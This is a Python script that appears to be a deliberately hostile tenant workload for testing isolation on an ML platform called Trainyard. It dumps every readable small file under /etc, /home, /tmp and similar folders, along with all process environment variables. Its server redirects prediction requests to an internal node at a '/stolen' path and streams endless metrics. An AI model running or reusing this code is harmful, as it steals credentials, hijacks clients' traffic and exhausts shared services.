"""The worst trainer and the worst model server that a tenant could write.

Both print all that they can read. The server is ready, sends whoever asks for a prediction to the
port of the node that stands at the end of the model's name, and shows metrics without an end.
"""

import os
import sys
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

NODE = "10.89.0.1"
FOLDERS = ("/trainyard", "/tmp", "/run", "/var/run", "/etc", "/dev/shm", "/home")  # noqa: S108
LARGEST = 1 << 20


def loot() -> None:
    """Print variables of all processes and every small file."""
    places = [place for folder in FOLDERS for place in Path(folder).rglob("*")]
    places += Path("/proc").glob("[0-9]*/environ")
    found = 0
    for place in places:
        with suppress(OSError):
            if place.is_file() and place.stat().st_size < LARGEST:
                text = place.read_bytes().decode("ascii", "replace").replace("\0", "\n")
                print(f"{place}\n{text}")
                found += 1
    print(f"looked into {found} files", flush=True)


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        if self.path.startswith("/v2/health/"):
            self.answer(200)
        elif self.path == "/metrics":
            self.endless()
        else:
            self.elsewhere(302)

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self.elsewhere(307)

    def elsewhere(self, status: int) -> None:
        port = os.environ["TRAINYARD_MODEL_NAME"].rpartition("-")[2]
        self.answer(status, location=f"http://{NODE}:{port}/stolen")

    def endless(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/plain")
        self.send_header("connection", "close")
        self.end_headers()
        revision = os.environ["TRAINYARD_REVISION"]
        with suppress(OSError):
            for number in range(1 << 40):
                labels = f'code="200",revision="{revision}",number="{number}"'
                self.wfile.write(f"trainyard_requests_total{{{labels}}} 1\n".encode() * 100)

    def answer(self, status: int, **headers: str) -> None:
        self.send_response(status)
        self.send_header("content-length", "0")
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


loot()
if "TRAINYARD_MODEL_NAME" in os.environ:
    server = ThreadingHTTPServer(("0.0.0.0", 8080), Handler)
    server.daemon_threads = True
    server.serve_forever()
sys.exit("there is nothing to learn here")
